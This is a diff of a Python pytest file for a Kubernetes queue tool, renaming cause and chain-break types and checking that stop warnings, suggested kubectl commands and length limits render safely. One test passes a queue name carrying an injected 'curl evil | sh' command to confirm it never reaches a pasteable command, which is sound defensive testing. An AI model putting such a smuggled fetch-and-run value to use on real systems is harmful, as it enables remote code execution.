@@ -6,15 +6,15 @@ import pytest
 
 from queues.apimachinery.display import REASON_LIMIT
 from queues.messages import (
-    fitted,
     refusal_text,
     stop_text,
+    truncate_warning,
     waiting_warning,
 )
 from queues.queue import Queue
 from queues.states import State
-from queues.tree import Break
-from queues.verdict import Cause, Verdict, Why
+from queues.tree import ChainBreak
+from queues.verdict import Cause, CauseKind, Verdict
 from tests.support.rules.cases import (
     CLOSED,
     DRAIN,
@@ -31,59 +31,61 @@ from tests.support.rules.cases import (
 #: cause: the words that say it, the command that undoes it.
 STOPS = {
     "suspended": (
-        Cause(why=Why.SUSPENDED, queue="research", by="research"),
+        Cause(why=CauseKind.SUSPENDED, queue="research", by="research"),
         ["research", "Suspended"],
         "kubectl queue resume research",
     ),
     "suspended above": (
-        Cause(why=Why.SUSPENDED, queue="research", by="lab"),
+        Cause(why=CauseKind.SUSPENDED, queue="research", by="lab"),
         ["research", "Suspended", 'ancestor "lab"'],
         "kubectl queue resume lab",
     ),
     "held": (
-        Cause(why=Why.STOPPED, queue="research", by="research", policy=HOLD),
+        Cause(why=CauseKind.STOPPED, queue="research", by="research", policy=HOLD),
         ["research", "stopPolicy Hold"],
         "kubectl queue resume research",
     ),
     "drained above": (
-        Cause(why=Why.STOPPED, queue="research", by="lab", policy=DRAIN),
+        Cause(why=CauseKind.STOPPED, queue="research", by="lab", policy=DRAIN),
         ["research", "stopPolicy HoldAndDrain", 'ancestor "lab"'],
         "kubectl queue resume lab",
     ),
     "closed": (
-        Cause(why=Why.CLOSED, queue="research", by="research"),
+        Cause(why=CauseKind.CLOSED, queue="research", by="research"),
         ["research", "Closed"],
         "kubectl queue open research",
     ),
     "closed above": (
-        Cause(why=Why.CLOSED, queue="research", by="lab"),
+        Cause(why=CauseKind.CLOSED, queue="research", by="lab"),
         ["research", "Closed", 'ancestor "lab"'],
         "kubectl queue open lab",
     ),
     "no parent": (
-        Cause(why=Why.BROKEN, queue="research", by="lab", broken=Break("lab", "ghost")),
+        Cause(why=CauseKind.BROKEN, queue="research", by="lab", broken=ChainBreak("lab", "ghost")),
         ["research", "Unknown", 'parent "ghost" of queue "lab" does not exist'],
         "kubectl edit queue lab",
     ),
     "a cycle": (
-        Cause(why=Why.BROKEN, queue="research", by="b", broken=Break("b", "a", ("a", "b"))),
+        Cause(why=CauseKind.BROKEN, queue="research", by="b", broken=ChainBreak("b", "a", ("a", "b"))),
         ["research", "Unknown", "cycle", "a > b > a"],
         "kubectl edit queue b",
     ),
     "no queue": (
-        Cause(why=Why.NOT_FOUND, queue="research", by="research"),
+        Cause(why=CauseKind.NOT_FOUND, queue="research", by="research"),
         ["research", "does not exist"],
         "kubectl queue create research",
     ),
     "no PodGroup": (
-        Cause(why=Why.NO_PODGROUP, queue="", by="train"),
+        Cause(why=CauseKind.NO_PODGROUP, queue="", by="train"),
         ['PodGroup "train"', "does not exist"],
         "kubectl create -f",
     ),
 }
 ANY_STOP = pytest.mark.parametrize(("cause", "words", "command"), STOPS.values(), ids=STOPS)
 #: The ones that a user's reason belongs to.
-REASONED = [name for name, (cause, *_) in STOPS.items() if cause.why in (Why.SUSPENDED, Why.STOPPED)]
+REASONED = [
+    name for name, (cause, *_) in STOPS.items() if cause.why in (CauseKind.SUSPENDED, CauseKind.STOPPED)
+]
 
 
 def reasoned(name: str, reason: str) -> Cause:
@@ -279,8 +281,8 @@ def test_a_hostile_parent_stays_on_one_printable_line(parent: str) -> None:
 
 
 @pytest.mark.parametrize("name", HOSTILE_PARENTS, ids=["escapes", "huge"])
-@pytest.mark.parametrize("why", [Why.NOT_FOUND, Why.NO_PODGROUP])
-def test_a_hostile_name_stays_on_one_printable_line(why: Why, name: str) -> None:
+@pytest.mark.parametrize("why", [CauseKind.NOT_FOUND, CauseKind.NO_PODGROUP])
+def test_a_hostile_name_stays_on_one_printable_line(why: CauseKind, name: str) -> None:
     """An annotation can ask for any queue or PodGroup: its name is shown as carefully as a reason."""
     text = stop_text(Cause(why=why, queue=name, by=name))
     assert plain(text)
@@ -289,7 +291,7 @@ def test_a_hostile_name_stays_on_one_printable_line(why: Why, name: str) -> None
 
 def test_no_command_is_made_of_a_name_that_no_queue_can_have() -> None:
     """Commands are there to be pasted: what an annotation asks for does not get into a shell that way."""
-    text = stop_text(Cause(why=Why.NOT_FOUND, queue="x; curl evil | sh", by="x; curl evil | sh"))
+    text = stop_text(Cause(why=CauseKind.NOT_FOUND, queue="x; curl evil | sh", by="x; curl evil | sh"))
     assert "create x; curl" not in text
 
 
@@ -305,7 +307,9 @@ def test_a_great_cycle_is_not_told_in_full() -> None:
 
 
 @pytest.mark.parametrize("length", [1, 8, 20, 63, 253])
-@pytest.mark.parametrize("name", [name for name, (cause, *_) in STOPS.items() if cause.why is not Why.BROKEN])
+@pytest.mark.parametrize(
+    "name", [name for name, (cause, *_) in STOPS.items() if cause.why is not CauseKind.BROKEN]
+)
 def test_a_warning_fits_what_clients_show(name: str, length: int) -> None:
     """Clients cut a warning of 120 characters, so none is that long, whatever the names."""
     cause = STOPS[name][0]
@@ -328,7 +332,7 @@ def test_a_warning_keeps_the_way_out_for_names_people_use(name: str, length: int
 @pytest.mark.parametrize("length", [1, 50, 65, 100, 253])
 def test_a_warning_for_a_missing_podgroup_names_it(length: int) -> None:
     """Volcano names a PodGroup by its Job and a UID: however long, its beginning is shown."""
-    warning = waiting_warning(Cause(why=Why.NO_PODGROUP, queue="", by="train-" + "p" * length))
+    warning = waiting_warning(Cause(why=CauseKind.NO_PODGROUP, queue="", by="train-" + "p" * length))
     assert 'PodGroup "train-' in warning
     assert "kubectl create -f" in warning
     assert len(warning) < 120
@@ -339,11 +343,11 @@ def test_a_warning_for_a_missing_podgroup_names_it(length: int) -> None:
 )
 def test_a_warning_is_cut_with_a_mark(length: int, kept: int) -> None:
     """Up to 119 characters stay as they are; of more there are 118 and an ellipsis."""
-    assert fitted("w" * length) == "w" * kept + ("" if length == kept else "\u2026")
+    assert truncate_warning("w" * length) == "w" * kept + ("" if length == kept else "\u2026")
 
 
 @pytest.mark.parametrize("state", [State.CLOSING, State.CLOSED, State.SUSPENDED])
 def test_a_refusal_is_constant(state: State) -> None:
     """The same cause and state give the same bytes."""
-    cause, again = (Cause(why=Why.CLOSED, queue="q", by="p", reason="r") for _ in "ab")
+    cause, again = (Cause(why=CauseKind.CLOSED, queue="q", by="p", reason="r") for _ in "ab")
     assert refusal_text(cause, state=state) == refusal_text(again, state=state)
